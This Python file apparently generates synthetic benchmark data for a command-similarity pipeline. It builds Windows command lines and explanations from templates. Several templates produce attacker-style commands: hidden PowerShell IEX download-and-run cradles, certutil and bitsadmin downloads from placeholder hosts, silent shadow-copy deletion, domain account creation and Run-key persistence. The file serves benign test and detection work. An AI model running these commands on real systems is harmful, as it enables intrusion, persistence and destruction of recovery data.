"""Seeded input generator for the pipeline benchmark.

Every generator takes a ``random.Random`` and returns plain records, so
the same seed always gives the same bytes on disk.  The program under
test only ever sees the files written here.

* ``realistic_commands``: Windows command lines of varied token length.
* ``explanation_corpus``: explanations with planted near-duplicate
  clusters (heavy-tailed sizes) inside the CLI's default cosine radius
  ``eps = 0.08``, plus unclustered noise.
* ``mock_pairs``: anchors from the mock provider's vocabulary whose
  positives swap verb and flag for trigram-disjoint synonyms, the way
  ``MockProvider`` answers a pair prompt.
* ``technique_corpus``: techniques of at least 9 commands each.
"""

from __future__ import annotations

import json
import random
import string
from pathlib import Path

USERS = ("alice", "bob", "svc_backup", "administrator", "jdoe", "mwong", "helpdesk",
         "sqlsvc", "guest", "krbtgt", "operator", "dev01")
HOSTS = ("DC01", "FS02", "WEB-03", "SQL01", "BUILD7", "WKS-0142", "EXCH02", "PRINT1",
         "10.0.4.17", "192.168.1.20", "172.16.8.5", "backup.corp.local")
DIRS = ("C:\\Windows\\Temp", "C:\\ProgramData", "C:\\Users\\Public\\Documents",
        "D:\\Backups", "C:\\inetpub\\wwwroot", "E:\\Shares\\Finance",
        "C:\\Program Files\\Vendor\\App", "%APPDATA%\\Microsoft", "%TEMP%",
        "C:\\Windows\\System32\\Tasks", "\\\\FS02\\deploy$", "C:\\Tools")
FILES = ("report", "payload", "setup", "update", "invoice_2023", "backup", "config",
         "agent", "svchost32", "notes", "archive", "drivers", "tmp4F2A", "install")
EXTENSIONS = ("exe", "dll", "ps1", "bat", "vbs", "txt", "zip", "7z", "msi", "log",
              "xml", "csv", "json", "lnk", "hta", "reg", "sys", "cab", "iso", "docx")
SERVICES = ("wuauserv", "WinDefend", "Spooler", "BITS", "RemoteRegistry", "W32Time",
            "MSSQLSERVER", "TermService", "LanmanServer", "sshd", "schedule")
REG_KEYS = ("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
            "HKLM\\SAM\\SAM\\Domains\\Account",
            "HKCU\\Environment",
            "HKLM\\Software\\Policies\\Microsoft\\Windows Defender",
            "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server")
DOMAINS = ("updates.example.com", "cdn.contoso.net", "files.fabrikam.org",
           "raw.example.org", "10.20.30.40", "mirror.internal.lan")
PS_VERBS = ("Get-Process", "Get-Service", "Get-ChildItem", "Get-WmiObject Win32_Share",
            "Get-LocalUser", "Get-NetTCPConnection", "Get-ScheduledTask", "Get-HotFix",
            "Get-CimInstance Win32_OperatingSystem", "Get-EventLog -LogName Security -Newest 50")


def _path(rng: random.Random) -> str:
    return f"{rng.choice(DIRS)}\\{rng.choice(FILES)}{rng.randint(0, 99)}.{rng.choice(EXTENSIONS)}"


def _word(rng: random.Random, low: int = 3, high: int = 10) -> str:
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(low, high)))


def _robocopy(rng):
    extra = " ".join(f"/XD {_word(rng)}" for _ in range(rng.randint(0, 4)))
    return (f"robocopy \"{rng.choice(DIRS)}\" \"\\\\{rng.choice(HOSTS)}\\{_word(rng)}$\" "
            f"/MIR /R:{rng.randint(0, 5)} /W:{rng.randint(1, 30)} {extra}").strip()


def _certutil(rng):
    return (f"certutil -urlcache -split -f http://{rng.choice(DOMAINS)}/{_word(rng)}/"
            f"{rng.choice(FILES)}.{rng.choice(EXTENSIONS)} {_path(rng)}")


def _reg_add(rng):
    return (f"reg add \"{rng.choice(REG_KEYS)}\" /v {_word(rng)} /t REG_SZ /d "
            f"\"{_path(rng)}\" /f")


def _reg_query(rng):
    return f"reg query \"{rng.choice(REG_KEYS)}\" /v {_word(rng)}" + (" /s" if rng.random() < 0.5 else "")


def _schtasks(rng):
    return (f"schtasks /create /tn \"{_word(rng)}\\{_word(rng)}\" /tr \"{_path(rng)}\" "
            f"/sc {rng.choice(('onlogon', 'daily', 'hourly', 'onstart'))} /ru {rng.choice(USERS)} /f")


def _net_user(rng):
    return f"net user {rng.choice(USERS)}{rng.randint(1, 99)} {_word(rng, 8, 14)}! /add /domain"


def _net_use(rng):
    return (f"net use Z: \\\\{rng.choice(HOSTS)}\\{_word(rng)} /user:{rng.choice(USERS)} "
            f"{_word(rng, 6, 12)}")


def _powershell(rng):
    statements = "; ".join(
        f"{rng.choice(PS_VERBS)} | Select-Object -First {rng.randint(1, 20)}"
        for _ in range(rng.randint(1, 4))
    )
    return f"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"{statements}\""


def _powershell_download(rng):
    return (f"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
            f"'http://{rng.choice(DOMAINS)}/{_word(rng)}.ps1')\"")


def _wmic(rng):
    return (f"wmic /node:{rng.choice(HOSTS)} process call create \"cmd.exe /c {_path(rng)}\"")


def _sc(rng):
    action = rng.choice(("stop", "start", "query", "qc"))
    if rng.random() < 0.4:
        return f"sc config {rng.choice(SERVICES)} start= {rng.choice(('disabled', 'auto', 'demand'))}"
    return f"sc \\\\{rng.choice(HOSTS)} {action} {rng.choice(SERVICES)}"


def _netsh(rng):
    return (f"netsh advfirewall firewall add rule name=\"{_word(rng)}\" dir=in action=allow "
            f"protocol=TCP localport={rng.randint(1, 65535)}")


def _bitsadmin(rng):
    return (f"bitsadmin /transfer {_word(rng)} /download /priority high "
            f"http://{rng.choice(DOMAINS)}/{rng.choice(FILES)}.{rng.choice(EXTENSIONS)} {_path(rng)}")


def _vssadmin(rng):
    return rng.choice((f"vssadmin delete shadows /for={rng.choice('CDE')}: /oldest /quiet",
                       f"vssadmin resize shadowstorage /for={rng.choice('CDE')}: "
                       f"/on={rng.choice('CDE')}: /maxsize={rng.randint(1, 900)}MB",
                       f"vssadmin create shadow /for={rng.choice('CDE')}: /autoretry={rng.randint(1, 60)}"))


def _rundll32(rng):
    return f"rundll32.exe {_path(rng)},{_word(rng, 4, 12)} {rng.randint(0, 9)}"


def _copy(rng):
    return f"xcopy {_path(rng)} \\\\{rng.choice(HOSTS)}\\C$\\Windows\\Temp\\ /Y /H /C"


def _findstr(rng):
    return (f"findstr /s /i /m \"{_word(rng)}\" {rng.choice(DIRS)}\\*.{rng.choice(EXTENSIONS)}")


def _tasklist(rng):
    return f"tasklist /s {rng.choice(HOSTS)} /u {rng.choice(USERS)} /fi \"imagename eq {_word(rng)}.exe\" /v"


def _msiexec(rng):
    return f"msiexec /i http://{rng.choice(DOMAINS)}/{rng.choice(FILES)}.msi /qn /norestart"


def _compress(rng):
    files = " ".join(_path(rng) for _ in range(rng.randint(1, 5)))
    return f"7z.exe a -tzip -p{_word(rng, 6, 10)} {_path(rng)}.zip {files}"


def _icacls(rng):
    return f"icacls \"{rng.choice(DIRS)}\" /grant {rng.choice(USERS)}:(OI)(CI)F /T /C"


def _nltest(rng):
    return rng.choice((f"nltest /dclist:{_word(rng)}.local", "nltest /domain_trusts /all_trusts",
                       f"nltest /server:{rng.choice(HOSTS)} /query"))


def _ping(rng):
    return f"ping -n {rng.randint(1, 10)} -w {rng.randint(100, 5000)} {rng.choice(HOSTS)}"


def _dir(rng):
    return f"dir /s /b /a:h {rng.choice(DIRS)}\\*.{rng.choice(EXTENSIONS)}"


COMMAND_FAMILIES = (
    _robocopy, _certutil, _reg_add, _reg_query, _schtasks, _net_user, _net_use,
    _powershell, _powershell_download, _wmic, _sc, _netsh, _bitsadmin, _vssadmin,
    _rundll32, _copy, _findstr, _tasklist, _msiexec, _compress, _icacls, _nltest,
    _ping, _dir,
)


def _distinct(rng: random.Random, count: int, make) -> list[str]:
    seen: set[str] = set()
    out: list[str] = []
    while len(out) < count:
        text = make(rng)
        key = " ".join(text.lower().split())
        if key not in seen:
            seen.add(key)
            out.append(text)
    return out


def realistic_commands(rng: random.Random, count: int) -> list[str]:
    """Distinct Windows command lines drawn from many command families."""
    return _distinct(rng, count, lambda r: r.choice(COMMAND_FAMILIES)(r))


EXPLANATION_ACTIONS = (
    "copies", "deletes", "lists", "queries", "creates", "modifies", "downloads",
    "uploads", "starts", "stops", "exports", "imports", "encrypts", "compresses",
    "scans", "enumerates", "schedules", "disables", "enables", "resets",
)
EXPLANATION_OBJECTS = (
    "the files stored in", "the registry values under", "a scheduled task that runs from",
    "the Windows service configured in", "local user accounts listed in",
    "a firewall exception for programs in", "the security event log kept in",
    "volume shadow copies referenced by", "the network share mapped to",
    "certificates trusted by the store in", "running processes launched from",
    "installer packages cached in",
)
EXPLANATION_PURPOSES = (
    "to keep an offsite backup in sync", "as part of routine patch maintenance",
    "so that a program persists across reboots", "to collect inventory for the help desk",
    "to stage tools for lateral movement", "while troubleshooting a failed deployment",
    "to free disk space on the server", "to hide traces of earlier activity",
    "before handing the machine to a new user", "to verify that the audit policy applies",
)
EXPLANATION_TAILS = (
    "and reports the result on the console", "without asking the user for confirmation",
    "using the credentials of the current session", "and writes a log next to the target",
    "only when the host is reachable", "and then exits with the tool's status code",
)
SOURCE_TAGS = ("initial_seed", "llm_synthesized", "real_world")


def _explanation(rng: random.Random) -> str:
    return (
        f"This command {rng.choice(EXPLANATION_ACTIONS)} {rng.choice(EXPLANATION_OBJECTS)} "
        f"{_path(rng)} on {rng.choice(HOSTS)} {rng.choice(EXPLANATION_PURPOSES)}, "
        f"{rng.choice(EXPLANATION_TAILS)}."
    )


def _near_duplicate(rng: random.Random, base: str) -> str:
    """Re-draw one or two digits, sometimes add a short sentence: a
    handful of trigrams out of well over a hundred change, so the cosine
    distance to the base stays below 0.08 under the hashing backend."""
    chars = list(base)
    spots = [i for i, c in enumerate(chars) if c.isdigit()]
    for _ in range(rng.randint(1, 2)):
        chars[rng.choice(spots)] = rng.choice(string.digits)
    suffix = f" Run {rng.randint(1, 999)}." if rng.random() < 0.5 else ""
    return "".join(chars) + suffix


def cluster_sizes(clustered: int, largest: int) -> list[int]:
    """Zipf-shaped cluster sizes (largest / rank, at least 5) summing to
    exactly ``clustered``.  The schedule is fixed so that work per run
    does not depend on the seed; only content and order do."""
    sizes: list[int] = []
    while sum(sizes) + max(5, largest // (len(sizes) + 1)) <= clustered:
        sizes.append(max(5, largest // (len(sizes) + 1)))
    sizes[0] += clustered - sum(sizes)
    return sizes


def explanation_corpus(rng: random.Random, count: int, noise_share: float,
                       largest: int) -> list[dict]:
    """{text, explanation, source} records: planted clusters plus noise,
    shuffled, every explanation distinct."""
    noise = round(count * noise_share)
    explanations: list[str] = []
    seen: set[str] = set()

    def add(text: str) -> bool:
        if text in seen:
            return False
        seen.add(text)
        explanations.append(text)
        return True

    for size in cluster_sizes(count - noise, largest):
        base = _explanation(rng)
        while not add(base):
            base = _explanation(rng)
        members = 1
        while members < size:
            members += add(_near_duplicate(rng, base))
    while len(explanations) < count:
        add(_explanation(rng))
    rng.shuffle(explanations)
    commands = realistic_commands(rng, count)
    return [
        {"text": command, "explanation": explanation, "source": rng.choice(SOURCE_TAGS)}
        for command, explanation in zip(commands, explanations)
    ]


def mock_vocabulary() -> list[tuple[str, str]]:
    """Every (anchor, positive) the mock provider's pair prompt can give
    for its own synthesis vocabulary, in a fixed order."""
    from cmdsim.gateway import MOCK_FLAG_SYNONYMS, MOCK_TARGETS, MOCK_VERB_SYNONYMS

    tags = "0123456789abcdef"
    return [
        (f"{verb} {flag} {target}{tag}", f"{verb_syn} {flag_syn} {target}{tag}")
        for verb, verb_syn in MOCK_VERB_SYNONYMS
        for flag, flag_syn in MOCK_FLAG_SYNONYMS
        for target in MOCK_TARGETS
        for tag in tags
    ]


def mock_pairs(rng: random.Random, count: int) -> list[tuple[str, str]]:
    """``count`` distinct (anchor, positive) pairs in seeded order."""
    vocabulary = mock_vocabulary()
    if count > len(vocabulary):
        raise ValueError(f"mock vocabulary has only {len(vocabulary)} pairs")
    return rng.sample(vocabulary, count)


def technique_corpus(rng: random.Random, techniques: int, low: int, high: int) -> list[dict]:
    """{technique_id, command} records; each technique draws its commands
    from one command family, so members resemble each other more than
    they resemble other techniques.  Sizes cycle through low..high, so
    the corpus size does not depend on the seed."""
    if low < 9:
        raise ValueError("detection needs techniques of at least 9 commands")
    records = []
    for t in range(techniques):
        family = COMMAND_FAMILIES[t % len(COMMAND_FAMILIES)]
        for command in _distinct(rng, low + t % (high - low + 1), family):
            records.append({"technique_id": f"T{1000 + t}", "command": command})
    return records


def write_jsonl(path: Path, records) -> None:
    with open(path, "w", encoding="utf-8", newline="\n") as handle:
        for record in records:
            handle.write(json.dumps(record, ensure_ascii=False))
            handle.write("\n")
